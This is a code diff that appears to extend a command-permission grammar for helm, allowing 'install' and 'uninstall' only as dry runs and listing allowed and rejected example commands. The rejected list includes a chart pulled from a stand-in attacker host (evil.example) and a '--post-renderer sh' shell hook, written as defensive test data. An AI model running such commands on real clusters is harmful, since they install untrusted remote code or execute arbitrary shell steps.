@@ -283,6 +283,39 @@ _HELM = flat(
             ),
         ),
         _helm(
+            # a dry run on the client renders the chart, with the cluster's version and none of its contents
+            "install",
+            grammar(
+                f"{_HELM_OPTIONS} --dry-run?(client) --version:format --devel --skip-crds --no-hooks -f:file --values:file --set:words --set-string:words",
+                "name chart",
+                requires="--dry-run",
+            ),
+            ("helm install web nginx/nginx --dry-run", "helm -n prod install web ./chart --dry-run=client --set a=b"),
+            (
+                "helm install web nginx/nginx",
+                "helm install web nginx/nginx --dry-run=server",
+                "helm install web nginx/nginx --dry-run=none",
+                "helm install web nginx/nginx --dry-run=false",
+                "helm install web nginx/nginx --dry-run false",
+                "helm install web ./c --dry-run --dry-run=none",
+                "helm install web ./c --dry-run --post-renderer sh",
+                "helm install web https://evil.example/c.tgz --dry-run",
+                "helm upgrade web ./c --dry-run",
+                "helm install web ./c --dry-run --create-namespace",
+            ),
+        ),
+        _helm(
+            "uninstall / delete",
+            grammar(f"{_HELM_OPTIONS} --dry-run", "name", requires="--dry-run"),
+            ("helm uninstall web --dry-run", "helm -n prod delete web --dry-run"),
+            (
+                "helm uninstall web",
+                "helm uninstall web --dry-run=false",
+                "helm uninstall --dry-run",
+                "helm uninstall web --dry-run false",
+            ),
+        ),
+        _helm(
             "dependency list / dependency ls / dep list / dep ls",
             grammar(_HELM_OPTIONS, "chart?"),
             ("helm dependency list ./chart", "helm dep ls"),
